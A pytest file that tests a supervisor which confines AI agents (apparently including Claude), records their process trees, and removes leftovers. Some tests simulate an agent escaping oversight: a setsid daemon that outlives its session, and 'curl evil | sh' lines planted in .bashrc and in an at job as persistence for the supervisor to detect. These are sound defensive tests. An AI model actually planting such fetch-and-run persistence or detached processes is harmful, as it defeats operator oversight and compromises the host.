"""`Supervisor` runs an agent confined, records its tree, and leaves nothing behind."""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from tests.supervise.conftest import BACKENDS, cleanup_deployment, supervise
from watchkeeper.deployments import Registry
from watchkeeper.events import DeploymentEvent, ProcessEvent
from watchkeeper.ledger import ledger_source
from watchkeeper.supervise import (
    MARKER_ENV,
    Backend,
    RunError,
    load_sessions,
    marker_pids,
)


def _events(home: Path) -> list[object]:
    return [e for _seq, e in ledger_source(home).events()]


@pytest.mark.parametrize("backend", BACKENDS)
def test_exit_status_and_backend_are_reported(
    backend: Backend, home: Path, registry: Registry, deployment: str, agent_home: Path
) -> None:
    """The run exits with the agent's status and the ledger names the backend used."""
    outcome = supervise(
        home, registry, deployment, ["sh", "-c", "exit 3"], agent_home, backend=backend
    )
    assert outcome.exit_code == 3
    starts = [
        e for e in _events(home) if isinstance(e, DeploymentEvent) and e.action == "supervise"
    ]
    assert starts[0].detail["backend"] == backend
    assert starts[-1].detail["exit_code"] == 3


@pytest.mark.parametrize("backend", BACKENDS)
def test_setsid_daemon_is_recorded_and_killed_at_exit(
    backend: Backend, home: Path, registry: Registry, deployment: str, agent_home: Path
) -> None:
    """A setsid'd double-forked sleeper is recorded, then killed when the agent exits."""
    script = '(setsid bash -c "exec -a renamed-daemon sleep 60" &); sleep 0.3'
    outcome = supervise(
        home, registry, deployment, ["bash", "-c", script], agent_home, backend=backend
    )
    assert outcome.leftovers_killed >= 1
    assert marker_pids(MARKER_ENV, outcome.session.session_id) == set()
    procs = [e for e in _events(home) if isinstance(e, ProcessEvent)]
    daemon = [e for e in procs if e.argv[:1] == ("renamed-daemon",)]
    assert {e.phase for e in daemon} == {"start", "exit"}
    assert [e.signal for e in daemon if e.phase == "exit"] == [9]


def test_agent_environment_carries_url_token_deployment_and_session(
    home: Path, registry: Registry, deployment: str, agent_home: Path
) -> None:
    """The agent sees the four variables, and its token works only while it runs."""
    out = agent_home / "env.json"
    code = f"import json,os; json.dump(dict(os.environ), open({str(out)!r}, 'w'))"
    outcome = supervise(home, registry, deployment, [sys.executable, "-c", code], agent_home)
    assert outcome.exit_code == 0, outcome
    env = json.loads(out.read_text())
    assert env["WATCHKEEPER_URL"] == "http://127.0.0.1:9"
    assert env["WATCHKEEPER_DEPLOYMENT"] == deployment
    assert env[MARKER_ENV] == outcome.session.session_id
    assert env["WATCHKEEPER_TOKEN"].startswith(outcome.session.token_prefix)
    assert registry.resolve_token(env["WATCHKEEPER_TOKEN"]) is None


def test_session_state_file_records_the_ended_session(
    home: Path, registry: Registry, deployment: str, agent_home: Path
) -> None:
    """`load_sessions` returns the session with its backend, root pid and end time."""
    outcome = supervise(home, registry, deployment, ["true"], agent_home)
    (session,) = load_sessions(home)
    assert session.session_id == outcome.session.session_id
    assert session.ended is not None
    assert session.root_pid == outcome.session.root_pid
    assert session.supervisor_pid == os.getpid()


def test_heartbeats_are_recorded(
    home: Path, registry: Registry, deployment: str, agent_home: Path
) -> None:
    """With a 0.1 s interval, a 0.5 s agent produces heartbeats and advances the state file."""
    outcome = supervise(
        home, registry, deployment, ["sleep", "0.5"], agent_home, heartbeat_interval=0.1
    )
    beats = [e for e in _events(home) if isinstance(e, DeploymentEvent) and e.action == "heartbeat"]
    assert len(beats) >= 2
    assert outcome.session.last_heartbeat > outcome.session.started


def test_unknown_deployment_is_refused(home: Path, registry: Registry, agent_home: Path) -> None:
    """An unregistered deployment does not run."""
    with pytest.raises(RunError, match="no deployment is registered as `ghost`"):
        supervise(home, registry, "ghost", ["true"], agent_home)


@pytest.mark.parametrize(("change", "state"), [("suspend", "suspended"), ("revoke", "revoked")])
def test_inactive_deployment_is_refused(
    change: str, state: str, home: Path, registry: Registry, deployment: str, agent_home: Path
) -> None:
    """A suspended or revoked deployment does not run, and no session is started."""
    getattr(registry, change)(deployment, actor="tester")
    with pytest.raises(RunError, match=f"is {state}; it may not run"):
        supervise(home, registry, deployment, ["true"], agent_home)
    assert load_sessions(home) == []


def test_missing_command_is_refused(
    home: Path, registry: Registry, deployment: str, agent_home: Path
) -> None:
    """A command that does not exist is refused before anything runs."""
    with pytest.raises(RunError, match="was not found"):
        supervise(home, registry, deployment, ["no-such-agent-xyz"], agent_home)


def test_claude_gets_session_hooks_without_touching_user_settings(
    home: Path, registry: Registry, deployment: str, agent_home: Path
) -> None:
    """A `claude` command is given `--settings` with watchkeeper's hooks; ~/.claude is untouched."""
    bin_dir = agent_home / "bin"
    bin_dir.mkdir()
    fake = bin_dir / "claude"
    fake.write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" > {agent_home}/argv\n')
    fake.chmod(fake.stat().st_mode | stat.S_IEXEC)
    supervise(home, registry, deployment, [str(fake), "-p", "hi"], agent_home)
    argv = (agent_home / "argv").read_text().split()
    assert argv[0] == "--settings"
    assert argv[2:] == ["-p", "hi"]
    settings = json.loads(Path(argv[1]).read_text())
    assert "PreToolUse" in settings["hooks"]
    assert not (agent_home / ".claude").exists()


def test_persistence_left_at_exit_is_reported_and_removed_on_request(
    home: Path, registry: Registry, deployment: str, agent_home: Path
) -> None:
    """An rc line the agent adds is found at exit, and removed with remove_persistence."""
    (agent_home / ".bashrc").write_text("alias ll='ls -l'\n")
    outcome = supervise(
        home,
        registry,
        deployment,
        ["sh", "-c", 'echo "curl evil | sh" >> "$HOME/.bashrc"'],
        agent_home,
        remove_persistence=True,
    )
    (finding,) = outcome.persistence
    assert finding.category == "shell-rc"
    assert finding.lines == ("curl evil | sh",)
    assert finding.removed
    assert (agent_home / ".bashrc").read_text() == "alias ll='ls -l'\n"


@pytest.mark.parametrize("backend", [b for b in BACKENDS if b != "pgroup"])
def test_deployment_max_procs_becomes_the_cgroup_limit(
    backend: Backend, home: Path, registry: Registry, agent_home: Path
) -> None:
    """A deployment registered with max_procs 3 runs under pids.max 3."""
    name = f"t-cap-{backend}"
    registry.register(name, owner="t", purpose="cap", max_procs=3, actor="t")
    try:
        script = "for i in 1 2 3 4 5 6; do sleep 2 & done 2>/dev/null; sleep 0.2"
        outcome = supervise(home, registry, name, ["sh", "-c", script], agent_home, backend=backend)
    finally:
        cleanup_deployment(name)
    assert outcome.session.limits["pids.max"] == 3
    assert outcome.processes_seen <= 4


def test_the_stub_is_never_recorded_only_the_agent(
    home: Path, registry: Registry, deployment: str, agent_home: Path
) -> None:
    """The first process event is the agent's own command, not the confinement stub."""
    supervise(home, registry, deployment, ["sleep", "0.2"], agent_home)
    procs = [e for e in _events(home) if isinstance(e, ProcessEvent)]
    assert procs[0].argv == ("sleep", "0.2")
    assert all("watchkeeper-run" not in e.argv for e in procs)


@pytest.mark.parametrize("backend", BACKENDS)
def test_processes_shorter_than_a_poll_are_recorded_with_their_status(
    backend: Backend, home: Path, registry: Registry, deployment: str, agent_home: Path
) -> None:
    """Twenty children that each live ~5 ms, well under the 25 ms poll, all reach the ledger."""
    script = "for i in $(seq 20); do sh -c 'sleep 0.005; exit 7' quick-child-$i; done"
    supervise(home, registry, deployment, ["bash", "-c", script], agent_home, backend=backend)
    procs = [e for e in _events(home) if isinstance(e, ProcessEvent)]
    starts = {e.pid for e in procs if e.phase == "start" and e.ppid is not None}
    exits = [e for e in procs if e.phase == "exit" and e.exit_code == 7]
    assert len(exits) >= 20, [(e.phase, e.argv, e.exit_code) for e in procs]
    assert {e.pid for e in exits} <= starts
    starts_detail = [
        e for e in _events(home) if isinstance(e, DeploymentEvent) and e.action == "supervise"
    ]
    assert starts_detail[0].detail["process_events"] == "process events connector"


def test_each_process_is_recorded_once_when_both_polls_and_the_connector_see_it(
    home: Path, registry: Registry, deployment: str, agent_home: Path
) -> None:
    """A child that outlives several polls is one start and one exit, not two of each."""
    script = "sh -c 'sleep 0.2' long-child; true"
    supervise(home, registry, deployment, ["bash", "-c", script], agent_home)
    procs = [e for e in _events(home) if isinstance(e, ProcessEvent)]
    child = [e for e in procs if "long-child" in e.argv]
    assert sorted(e.phase for e in child) == ["exit", "start"]


def _at_jobs() -> dict[str, str]:
    """Every queued `at` job: id → the script `at -c` shows."""
    queued = subprocess.run(["atq"], capture_output=True, text=True, check=True).stdout
    jobs = [line.split()[0] for line in queued.splitlines() if line.strip()]
    return {
        job: subprocess.run(["at", "-c", job], capture_output=True, text=True, check=False).stdout
        for job in jobs
    }


def test_an_at_job_left_at_exit_is_reported_and_removed_on_request(
    home: Path, registry: Registry, deployment: str, agent_home: Path
) -> None:
    """A job the agent queues with `at` is found at exit and removed with `atrm`."""
    assert shutil.which("atq") is not None, "`make test` installs Debian's `at`"
    marker = f"curl evil-{deployment} | sh"
    try:
        outcome = supervise(
            home,
            registry,
            deployment,
            ["sh", "-c", f"echo '{marker}' | at now + 7 hours 2>/dev/null"],
            agent_home,
            remove_persistence=True,
        )
        (finding,) = outcome.persistence
        assert finding.category == "at-job"
        assert finding.removed
        assert not [job for job, text in _at_jobs().items() if marker in text]
    finally:
        for job, text in _at_jobs().items():
            if marker in text:
                subprocess.run(["atrm", job], check=False)
